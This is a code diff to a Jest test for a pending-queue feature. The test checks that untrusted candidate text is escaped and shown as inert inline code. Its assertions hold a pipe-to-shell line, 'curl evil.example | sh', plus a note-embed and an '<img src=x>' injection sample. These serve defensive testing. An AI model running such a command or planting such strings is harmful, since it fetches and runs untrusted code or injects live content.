@@ -3,6 +3,7 @@
  * text, rejections leave no text behind, old receipts expire, and a damaged
  * file is kept aside rather than silently dropped.
  */
+import { liveParts } from '../helpers/live-parts';
 import { afterAll, describe, expect, test } from '@jest/globals';
 import * as fs from 'node:fs';
 import * as path from 'node:path';
@@ -131,8 +132,9 @@ describe('PendingQueue', () => {
     expect(people).toMatch(/waiting since 2026-11-29/);
     // the candidate's words do nothing when shown: no live code span, embed or HTML
     expect(people).toContain('\\`curl evil.example \\| sh\\`');
-    expect(people).not.toContain('![[');
-    expect(people).not.toMatch(/(^|[^\\])<img/);
+    // an embed and a tag are held as inline code: their words readable, nothing live
+    expect(liveParts(people!)).toEqual([]);
+    expect(people).toContain('``![[secret]]`` ``<img src=x>``');
     expect(people!.split('\n').some((l) => l.trim().startsWith('{'))).toBe(false);
     // the machine state: one fence, one record per line
     expect(machine!.match(/```json/g)).toHaveLength(1);
